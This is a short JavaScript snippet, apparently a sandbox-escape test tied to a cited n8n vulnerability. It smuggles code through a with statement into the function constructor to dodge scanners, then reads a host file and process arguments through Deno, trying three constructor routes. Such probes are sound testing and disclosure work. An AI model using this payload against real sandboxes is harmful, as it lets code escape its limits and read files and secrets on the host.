// Tries: names that are looked up in an object, so that no scanner sees a member being read.
// Origin: CVE-2026-1470 (n8n: a with statement reaches the function constructor).

const found = [];
const text = "with (function () {}) { return constructor('return [Deno.args, Deno.readTextFileSync(input.file)]')() }";
for (const make of [() => new Function(text), () => (() => {}).constructor(text), () => (async () => {}).constructor(text)]) {
  try {
    found.push(await make()());
  } catch (error) {
    found.push(`${error}`);
  }
}
return found;
